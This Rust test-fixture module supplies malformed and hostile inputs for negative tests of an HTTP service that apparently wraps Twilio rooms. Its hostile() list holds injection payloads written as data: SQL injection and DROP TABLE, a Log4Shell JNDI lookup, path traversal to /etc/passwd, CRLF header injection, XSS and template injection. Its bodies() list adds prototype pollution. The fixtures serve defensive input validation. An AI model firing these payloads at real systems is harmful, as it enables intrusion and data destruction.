//! The spoiled parts: bodies that are not the route's JSON or form, hostile ids (unicode,
//! control characters, injection attempts), names that are fine but not SIDs, and query values.

use shared::http::BODY_LIMIT;

/// JSON bodies no JSON route accepts.
pub(crate) fn bodies() -> Vec<String> {
    let mut out: Vec<String> = [
        "",
        " ",
        "{",
        "}",
        "not json",
        "[]",
        "null",
        "42",
        "\"text\"",
        "{}",
        "{\"a\":1} trailing",
        "{\"a\":1}{\"a\":1}",
        "channel=sms&code=123456",
        "<channel>sms</channel>",
        "--x\r\nContent-Disposition: form-data; name=\"channel\"\r\n\r\nsms\r\n--x--",
        "\u{feff}{\"channel\":\"sms\"}",
        "{\"channel\":",
        "{\"channel\":7}",
        "{\"channel\":\"fax\"}",
        "{\"channel\":null}",
        "{\"channel\":\"sms\",\"channel\":\"call\"}",
        "{\"channel\":\"sms\u{0}\"}",
        "{\"room\":{\"type\":[],\"id\":{}},\"type\":1e400}",
        "{\"__proto__\":{\"admin\":true}}",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    out.push("[".repeat(10_000));
    out.push(format!("{{\"channel\":\"{}\"}}", "s".repeat(1 << 20)));
    out
}

/// Content types a client may send (none included).
pub(crate) const CONTENT_TYPES: [Option<&str>; 4] = [
    Some("application/json"),
    Some("application/x-www-form-urlencoded"),
    Some("text/plain; charset=utf-8"),
    None,
];

/// Form bodies Twilio never sends.
pub(crate) const FORMS: [&str; 8] = [
    "{\"RoomSid\":\"RM0123456789abcdef0123456789abcdef\"}",
    "RoomSid=%ZZ",
    "RoomSid=%4",
    "=x",
    "RoomSid",
    "a=%FF",
    "&&=&&",
    "<xml/>",
];

/// Ids that are no valid name, identity part, code or SID anywhere.
pub(crate) fn hostile() -> Vec<String> {
    let mut out: Vec<String> = [
        "",
        " ",
        "é",
        "日本語",
        "🎥",
        "a b",
        "a\u{0}b",
        "a\nb",
        "a\r\nX-Injected: 1",
        "a\tb",
        "\u{202e}cba",
        "\u{feff}abc",
        "\u{7f}",
        "../../etc/passwd",
        "..%2f..%2f",
        "a/b",
        "a:b",
        "acme:class:x",
        "a;b",
        "a|b",
        "*",
        "%00",
        "' OR '1'='1",
        "\"; DROP TABLE rooms; --",
        "${jndi:ldap://example.com/a}",
        "{{7*7}}",
        "<script>alert(1)</script>",
        "$where",
        "{\"$gt\":\"\"}",
        "a&b=c",
        "a#b",
        "a?b",
        "a.b",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    out.push("a".repeat(65));
    out.push("a".repeat(BODY_LIMIT / 64));
    out
}

/// Well-formed names that are not Twilio SIDs (bad where a SID is due).
pub(crate) const NOT_SIDS: [&str; 6] = [
    "RM0123456789abcdef0123456789abcdeg",
    "RM0123456789abcdef0123456789abcde",
    "RM0123456789abcdef0123456789abcdef0",
    "rm0123456789abcdef0123456789abcdef",
    "XX0123456789abcdef0123456789abcdef",
    "RM",
];

/// Values of `limit` outside 1–100 or not a number.
pub(crate) const LIMITS: [&str; 6] = ["0", "101", "-1", "1.5", "1e2", "99999999999999999999"];

/// Methods a client may use.
pub(crate) const METHODS: [&str; 7] = ["GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS"];
